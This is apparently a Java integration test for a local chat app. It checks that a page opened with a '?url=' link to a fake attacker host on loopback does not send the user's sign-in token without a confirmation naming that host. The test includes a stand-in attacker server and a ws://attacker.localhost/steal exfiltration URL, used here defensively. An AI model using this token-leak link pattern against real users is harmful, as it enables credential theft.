package io.wschat.localchat;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import io.wschat.localchat.deploy.Repository;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.openqa.selenium.Alert;
import org.openqa.selenium.By;
import org.openqa.selenium.WebDriver;
import org.openqa.selenium.support.ui.ExpectedConditions;
import org.openqa.selenium.support.ui.WebDriverWait;

/**
 * Issue 15, finding 6: the page served by the runner (in jwt mode) is opened with {@code ?url=} pointing at an
 * "attacker" on another loopback port, which records every handshake it gets. The token never leaves without a
 * confirmation that names the attacker's host.
 */
class BrowserTokenIT {
  private static final Duration WAIT = Duration.ofSeconds(10);

  @TempDir
  Path profiles;

  private LocalChat chat;
  private HttpServer attacker;
  private WebDriver page;
  /** What reached the attacker: each handshake's request line and offered subprotocols. */
  private final List<String> stolen = new CopyOnWriteArrayList<>();

  @BeforeEach
  void start() throws Exception {
    Chromium.requireInstalled();
    chat = LocalChat.start(LocalChat.Options.defaults().withPort(0).withTemplate(Repository.file("template.yaml"))
        .withAuth(LocalChat.Auth.JWT).withStore(LocalChat.Store.MEMORY, Optional.empty()));
    attacker = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    attacker.createContext("/", exchange -> {
      stolen.add(exchange.getRequestURI() + " protocols=" + exchange.getRequestHeaders().get("Sec-WebSocket-Protocol"));
      exchange.sendResponseHeaders(403, -1);
      exchange.close();
    });
    attacker.start();
    page = Chromium.start(profiles.resolve("victim"));
  }

  @AfterEach
  void stop() {
    try {
      if (page != null) {
        page.quit();
      }
    } finally {
      attacker.stop(0);
      chat.close();
    }
  }

  private String attackerHost() {
    return "attacker.localhost:" + attacker.getAddress().getPort();
  }

  /** A real development token for alice, as the runner's Sign in would mint it. */
  private String aliceToken() throws Exception {
    HttpResponse<String> minted = HttpClient.newHttpClient().send(HttpRequest.newBuilder(
            chat.pageUri().resolve("/local-auth/token?userId=alice")).POST(HttpRequest.BodyPublishers.noBody()).build(),
        HttpResponse.BodyHandlers.ofString());
    assertThat(minted.statusCode()).isEqualTo(200);
    return minted.body().replaceAll(".*\"token\"\\s*:\\s*\"([^\"]+)\".*", "$1");
  }

  private void openAttackersLink() {
    page.get(chat.pageUri() + "?url=" + "ws://" + attackerHost() + "/steal");
    new WebDriverWait(page, WAIT).until(d -> !d.findElement(By.id("state")).getText().equals("connecting"));
  }

  /** Connect, from whatever state the page is in (it keeps retrying a server that refuses it). */
  private void clickConnect() {
    if (page.findElement(By.id("connect")).getText().equals("Disconnect")) {
      page.findElement(By.id("connect")).click();
    }
    page.findElement(By.id("connect")).click();
  }

  @Test
  void sign_in_on_a_link_to_another_host_mints_no_token_and_sends_none() throws Exception {
    openAttackersLink();
    page.findElement(By.id("userId")).sendKeys("alice");
    page.findElement(By.id("signIn")).click();

    new WebDriverWait(page, WAIT).until(ExpectedConditions.textToBePresentInElementLocated(By.id("errors"),
        "to sign in to " + attackerHost()));
    assertThat(page.findElement(By.id("token")).getAttribute("value")).isEmpty();
    Thread.sleep(500);
    assertThat(stolen).noneSatisfy(request -> assertThat(request).contains("token"));
  }

  @Test
  void a_token_goes_to_another_host_only_after_a_confirmation_naming_it() throws Exception {
    openAttackersLink();
    String token = aliceToken();
    page.findElement(By.id("token")).sendKeys(token);

    clickConnect();
    Alert asked = new WebDriverWait(page, WAIT).until(ExpectedConditions.alertIsPresent());
    assertThat(asked.getText()).contains("Send your sign-in token to " + attackerHost());
    asked.dismiss();
    new WebDriverWait(page, WAIT).until(ExpectedConditions.textToBePresentInElementLocated(By.id("errors"),
        "your token stays on this page"));
    Thread.sleep(1000); // time for anything the page might still send
    assertThat(stolen).as("what reached the attacker").noneSatisfy(request ->
        assertThat(request).contains(token.substring(0, 20)));

    // The detector works: agreeing sends the token, in the subprotocol and not in the URL.
    clickConnect();
    new WebDriverWait(page, WAIT).until(ExpectedConditions.alertIsPresent()).accept();
    new WebDriverWait(page, WAIT).until(d -> stolen.stream().anyMatch(r -> r.contains(token)));
    assertThat(stolen.stream().filter(r -> r.contains(token)).findFirst().orElseThrow())
        .startsWith("/steal protocols=[wschat, wschat.token." + token + "]");
  }
}
